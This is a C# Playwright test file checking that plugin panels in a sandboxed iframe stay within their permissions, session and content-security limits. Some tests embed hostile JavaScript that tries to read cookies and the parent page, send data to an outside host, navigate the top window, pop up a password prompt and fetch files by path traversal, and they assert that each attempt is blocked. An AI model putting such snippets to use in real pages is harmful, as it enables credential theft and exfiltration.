using Bailey.Console.Tests.Browsing;
using Bailey.Console.Tests.Frame;
using Bailey.Server.Tests;
using Bailey.Server.Tests.SignIn;
using Microsoft.Playwright;

namespace Bailey.Console.Tests.Panels;

/// <summary>Panels of plugins: what they can do, and what they cannot whatever they try.</summary>
public sealed class PanelTests
{
    private const string Address = "/c/chess/panels/org.example.board/board";
    private const string Html = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Board</title><script src="bailey.js"></script><script src="board.js" defer></script></head><body><p id="said">nothing yet</p></body></html>""";

    private static readonly LocatorAssertionsToHaveTextOptions s_patient = new() { Timeout = 60_000 };

    [Fact]
    public async Task A_panel_is_shown_and_calls_its_own_plugin_as_whoever_looks()
    {
        await using var world = await ConsoleWorld.StartAsync();
        await PanelPackages.InstallAsync(world.Server, PanelPackages.Build(new Dictionary<string, string>
        {
            ["board.html"] = Html,
            ["board.js"] = """bailey.call("panel.refresh", { move: "e4" }).then((value) => { document.getElementById("said").textContent = "played " + value.move; });""",
        }));
        var page = await world.OpenAsync("bob");
        await page.ShowAsync("/c/chess/panels", "Panels");
        await page.IsAccessibleAsync();
        await page.PressByKeyboardAsync(page.GetByRole(AriaRole.Link, new PageGetByRoleOptions { Name = "Board: board" }));
        await page.IsShownAsync("Board");
        await Assertions.Expect(page.FrameLocator("iframe.panel-frame").Locator("#said")).ToHaveTextAsync("played e4", s_patient);
        await page.IsAccessibleAsync();
        await page.SetViewportSizeAsync(390, 800);
        await page.FitsAsync();
    }

    [Fact]
    public async Task What_a_panel_may_not_have_is_denied_with_the_reason_beside_it()
    {
        await using var world = await ConsoleWorld.StartAsync();
        await PanelPackages.InstallAsync(world.Server, PanelPackages.Build(new Dictionary<string, string>
        {
            ["board.html"] = Html,
            ["board.js"] = """
                const told = [];
                const wish = (name, promise) => promise.then(() => told.push(name + ": done"), (error) => told.push(name + ": " + error.code)).then(() => { document.getElementById("said").textContent = told.join(" "); });
                (async () => {
                  await wish("settings", bailey.settings());
                  await wish("foreign", bailey.call("message.posted", 1));
                  await wish("absent", bailey.call("panel.none-such", 1));
                  await wish("clock", bailey.call("cron.daily", 1));
                })();
                """,
        }));
        var page = await world.OpenAsync("bob");
        await page.ShowAsync(Address, "Board");
        await Assertions.Expect(page.FrameLocator("iframe.panel-frame").Locator("#said")).ToHaveTextAsync("settings: permission_missing foreign: panel_hook_unsuitable absent: panel_hook_unsuitable clock: panel_hook_unsuitable", s_patient);
        await Assertions.Expect(page.GetByRole(AriaRole.Heading, new PageGetByRoleOptions { Name = "What the panel was denied" })).ToBeVisibleAsync();
        await page.IsAccessibleAsync();
        var observer = await world.OpenAsync("olga");
        await observer.ShowAsync(Address, "Board");
        await Assertions.Expect(observer.FrameLocator("iframe.panel-frame").Locator("#said")).ToContainTextAsync("foreign: permission_missing", new LocatorAssertionsToContainTextOptions { Timeout = 60_000 });
    }

    [Fact]
    public async Task A_hostile_panel_reaches_neither_cookies_nor_the_API_the_page_around_it_the_network_or_the_window()
    {
        using var outside = new Outside();
        await using var world = await ConsoleWorld.StartAsync();
        await PanelPackages.InstallAsync(world.Server, PanelPackages.Build(new Dictionary<string, string>
        {
            ["board.html"] = Html,
            ["worker.js"] = "postMessage(1)",
            ["board.js"] = $$"""
                const told = [];
                const attempt = async (name, work) => {
                  let came = "blocked";
                  try { const got = await work(); came = got ? "REACHED " + got : "blocked"; } catch { came = "blocked"; }
                  told.push(name + " " + came);
                };
                const loads = (tag, field, address) => new Promise((resolve) => {
                  const element = document.createElement(tag);
                  element.onload = () => resolve("loaded"); element.onerror = () => resolve(null);
                  element[field] = address;
                  document.body.append(element);
                  setTimeout(() => resolve(null), 2000);
                });
                const out = "http://127.0.0.1:{{outside.Port}}/";
                const here = new URL("/", location.href).href;
                (async () => {
                  await attempt("cookie", () => document.cookie);
                  await attempt("storage", () => { localStorage.setItem("x", "1"); return "wrote"; });
                  await attempt("parent", () => parent.document.body.innerText);
                  await attempt("top", () => top.location.href);
                  await attempt("opener", () => window.opener && "opener");
                  await attempt("api", async () => (await fetch(here + "api/account")).status);
                  await attempt("api-cookies", async () => (await fetch(here + "api/account", { credentials: "include", mode: "no-cors" })).type);
                  await attempt("network", async () => (await fetch(out, { mode: "no-cors" })).type);
                  await attempt("beacon", () => (navigator.sendBeacon(out, "x"), null));
                  await attempt("socket", () => new Promise((resolve) => { const socket = new WebSocket("ws://127.0.0.1:{{outside.Port}}/"); socket.onopen = () => resolve("open"); socket.onerror = () => resolve(null); }));
                  await attempt("image", () => loads("img", "src", out + "x.png"));
                  await attempt("script", () => loads("script", "src", out + "x.js"));
                  await attempt("console-script", () => loads("script", "src", here + "_content/Bailey.Console/console.js"));
                  await attempt("frame", async () => { await loads("iframe", "src", here + "sign-in"); return document.querySelector("iframe").contentDocument?.body?.innerText; });
                  await attempt("style", () => loads("link", "href", out + "x.css"));
                  await attempt("eval", () => new Function("return 'ran'")());
                  await attempt("inline", () => { const script = document.createElement("script"); script.textContent = "window.ran = 'ran'"; document.body.append(script); return window.ran; });
                  await attempt("worker", () => new Promise((resolve) => { const worker = new Worker("worker.js"); worker.onmessage = () => resolve("worker"); worker.onerror = () => resolve(null); setTimeout(() => resolve(null), 1500); }));
                  await attempt("popup", () => window.open(out) && "opened");
                  await attempt("dialog", () => { confirm("Your password?"); return null; });
                  await attempt("form", () => { const form = document.createElement("form"); form.action = out; form.target = "_top"; document.body.append(form); form.submit(); return null; });
                  await attempt("top-navigation", () => { top.location = out; return null; });
                  parent.postMessage({ bailey: 1, id: 1, kind: "AskAsync", input: { toJSON: 1 } }, "*");
                  parent.postMessage("nonsense", "*");
                  document.getElementById("said").textContent = "tried: " + told.join(", ");
                })();
                """,
        }));
        var page = await world.OpenAsync("root");
        await page.ShowAsync(Address, "Board");
        var said = page.FrameLocator("iframe.panel-frame").Locator("#said");
        await Assertions.Expect(said).ToContainTextAsync("tried:", new LocatorAssertionsToContainTextOptions { Timeout = 60_000 });
        var text = await said.InnerTextAsync();
        text.Split(", ").Where(static attempt => attempt.Contains("REACHED", StringComparison.Ordinal)).ShouldBeEmpty();
        text.ShouldContain("top-navigation blocked");
        page.Url.ShouldEndWith(Address);
        page.Frames.ShouldNotContain(static frame => frame.Url.Contains("/sign-in", StringComparison.Ordinal));
        page.Context.Pages.Count.ShouldBe(1);
        await page.IsShownAsync("Board");
        outside.Told.ShouldBeEmpty();
    }

    [Fact]
    public async Task A_panel_that_leaves_its_frame_gets_nowhere()
    {
        using var outside = new Outside();
        await using var world = await ConsoleWorld.StartAsync();
        await PanelPackages.InstallAsync(world.Server, PanelPackages.Build(new Dictionary<string, string>
        {
            ["board.html"] = Html,
            ["board.js"] = $$"""setTimeout(() => { location.href = "http://127.0.0.1:{{outside.Port}}/?stolen"; }, 300);""",
        }));
        var page = await world.OpenAsync("root");
        var refused = new List<string>();
        page.Console += (_, message) => refused.Add(message.Text);
        await page.ShowAsync(Address, "Board");
        for (var waited = 0; waited < 100 && !refused.Any(static text => text.Contains("frame-src", StringComparison.Ordinal)); waited++)
        {
            await Task.Delay(100, TestContext.Current.CancellationToken);
        }

        refused.ShouldContain(static text => text.Contains("frame-src", StringComparison.Ordinal));
        outside.Told.ShouldBeEmpty();
    }

    [Fact]
    public async Task A_package_that_may_not_show_panels_shows_nothing_and_the_page_says_why()
    {
        await using var world = await ConsoleWorld.StartAsync();
        await PanelPackages.InstallAsync(world.Server, PanelPackages.Build(new Dictionary<string, string> { ["board.html"] = Html, ["board.js"] = "" }, capabilities: "[]"));
        var page = await world.OpenAsync("bob");
        await page.GotoAsync(Address);
        await Assertions.Expect(page.GetByText("capability_undeclared")).ToBeVisibleAsync();
        await Assertions.Expect(page.Locator("iframe")).ToHaveCountAsync(0);
        await page.IsAccessibleAsync();
    }

    [Fact]
    public async Task A_panel_calls_its_own_plugin_alone_though_others_are_at_the_same_hook()
    {
        await using var world = await PageGateTests.StartAsync();
        await PanelPackages.InstallAsync(world, PanelPackages.Build(new Dictionary<string, string> { ["board.html"] = Html }));
        await PanelPackages.InstallAsync(world, PanelPackages.Build(new Dictionary<string, string> { ["board.html"] = Html }, id: "org.example.spy"));
        using var bob = await world.ClientAsync("bob");
        var reply = (await bob.PostAsync("/api/communities/chess/panels/org.example.board/board/call", """{"hook":"panel.refresh","input":{"secret":1}}""")).ShouldBe(200).Json;
        reply["outcomes"]!.AsArray().Select(static outcome => outcome!["plugin"]!.GetValue<string>()).ShouldBe(["org.example.board"]);
        reply["value"]!["secret"]!.GetValue<int>().ShouldBe(1);
        var all = (await bob.PostAsync("/api/communities/chess/hooks/panel.refresh", "{}")).ShouldBe(200).Json;
        all["outcomes"]!.AsArray().Count.ShouldBe(2);
        var listed = (await bob.GetAsync("/api/communities/chess/panels")).ShouldBe(200).Json["items"]!.AsArray();
        listed.Select(static panel => panel!["plugin"]!.GetValue<string>()).ShouldBe(["org.example.board", "org.example.spy"]);
        listed.ShouldAllBe(static panel => panel!["decision"]!["allowed"]!.GetValue<bool>() && panel["address"] == null);
    }

    [Fact]
    public async Task Files_of_panels_need_a_ticket_and_end_with_what_the_plugin_and_the_person_may()
    {
        await using var world = await PageGateTests.StartAsync();
        await PanelPackages.InstallAsync(world, PanelPackages.Build(new Dictionary<string, string> { ["board.html"] = Html, ["board.js"] = "1", ["other.html"] = Html, ["assets/a.css"] = "p{}" }));
        using var bob = await PageGateTests.PersonAsync(world, "bob");
        var address = (await bob.GetAsync("/api/communities/chess/panels/org.example.board/board")).ShouldBe(200).Json["address"]!.GetValue<string>();
        using var frame = await FrameAsync(world);
        var shown = (await frame.GetAsync(address)).ShouldBe(200);
        shown.MediaType.ShouldBe("text/html");
        shown.Headers["Content-Security-Policy"].ShouldStartWith("sandbox allow-scripts; default-src 'none'; script-src http://127.0.0.1:");
        shown.Headers["X-Frame-Options"].ShouldBe("SAMEORIGIN");
        var folder = address[..(address.LastIndexOf('/') + 1)];
        (await frame.GetAsync(folder + "assets/a.css")).ShouldBe(200).MediaType.ShouldBe("text/css");
        (await frame.GetAsync(folder + "bailey.js")).ShouldBe(200);
        foreach (var path in (string[])[folder + "none.html", folder + "../manifest.json", folder + "..%2fmanifest.json", folder + "%2e%2e/plugin.wasm", "/panels/x/board.html", "/panels/" + folder.Split('/')[2][..^4] + "AAAA/board.html"])
        {
            (await frame.GetAsync(path)).Status.ShouldBeOneOf(401, 404);
        }

        (await bob.GetAsync("/api/communities/chess/panels/org.example.board/other")).ShouldBe(403, "capability_undeclared");
        (await bob.GetAsync("/api/communities/chess/panels/org.example.board/none")).ShouldBe(404, "not_found");
        (await bob.PostAsync("/api/communities/chess/panels/org.example.board/none/call", """{"hook":"panel.refresh","input":1}""")).ShouldBe(404, "not_found");
        using var eve = await PageGateTests.PersonAsync(world, "eve");
        (await eve.GetAsync("/api/communities/chess/panels/org.example.board/board")).ShouldBe(404, "not_found");
        using var mo = await world.ClientAsync("mo");
        (await mo.PutAsync("/api/communities/chess/plugin-packages/org.example.board/capabilities", """{"denied":["ui:panels"]}""")).ShouldBe(200);
        (await frame.GetAsync(address)).Status.ShouldBe(404);
        (await bob.GetAsync("/api/communities/chess/panels/org.example.board/board")).ShouldBe(403, "capability_denied_by_admin");
        (await mo.PutAsync("/api/communities/chess/plugin-packages/org.example.board/capabilities", """{"denied":[]}""")).ShouldBe(200);
        (await frame.GetAsync(address)).Status.ShouldBe(200);
        world.Write("etc/profiles/bob.yaml", "enabled: false\nauth: {methods: [password]}\n");
        await world.Host.ReloadPolicyAsync();
        (await frame.GetAsync(address)).Status.ShouldBe(404);
    }

    [Theory]
    [InlineData("signed out")]
    [InlineData("signed in anew")]
    [InlineData("all other sessions ended")]
    [InlineData("no passwords any more")]
    public async Task Files_of_panels_end_with_the_session_that_they_were_asked_for_in(string how)
    {
        await using var world = await PageGateTests.StartAsync();
        await PanelPackages.InstallAsync(world, PanelPackages.Build(new Dictionary<string, string> { ["board.html"] = Html, ["board.js"] = "1" }));
        using var bob = await PageGateTests.PersonAsync(world, "bob");
        using var elsewhere = new Visitor(world);
        await elsewhere.SignInAsync("bob");
        var address = (await bob.GetAsync("/api/communities/chess/panels/org.example.board/board")).ShouldBe(200).Json["address"]!.GetValue<string>();
        using var frame = await FrameAsync(world);
        (await frame.GetAsync(address)).Status.ShouldBe(200);
        switch (how)
        {
            case "signed out":
                (await bob.PostAsync("/api/account/sign-out")).ShouldBe(204);
                break;
            case "signed in anew":
                await bob.SignInAsync("bob");
                break;
            case "all other sessions ended":
                (await elsewhere.PutAsync("/api/account/password", $$"""{"newPassword":"four goats on a ladder","currentPassword":"{{Visitor.Password}}"}""")).ShouldBe(204);
                break;
            default:
                world.Write("etc/profiles/bob.yaml", "auth: {methods: [passkey]}\n");
                await world.Host.ReloadPolicyAsync();
                break;
        }

        (await frame.GetAsync(address)).Status.ShouldBe(404);
        (await frame.GetAsync(address.Replace("board.html", "board.js", StringComparison.Ordinal))).Status.ShouldBe(404);
    }

    // Asks as browsers do for what is in a frame: without a cookie, and saying what for.
    private static async Task<ApiClient> FrameAsync(ServerWorld world)
    {
        var frame = await world.ClientAsync(null);
        frame.Http.DefaultRequestHeaders.Add("Sec-Fetch-Dest", "iframe");
        return frame;
    }
}
